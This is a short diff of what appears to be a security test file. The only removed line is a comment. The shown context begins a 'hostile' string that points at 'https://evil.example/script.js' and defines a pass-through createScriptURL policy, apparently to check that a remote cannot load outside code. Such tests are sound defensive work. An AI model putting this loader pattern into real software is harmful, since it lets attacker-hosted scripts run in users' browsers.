@@ -1,7 +1,6 @@
 import { replaceEntry } from '../shop/breakRemote.ts';
 import { expect, test } from '../test.ts';
 
-/** Released code of a remote that tries to load other code. Reports the result of each attempt. */
 const hostile = `;(async () => {
   const evil = 'https://evil.example/script.js';
   const rules = { createScriptURL: (address) => address };
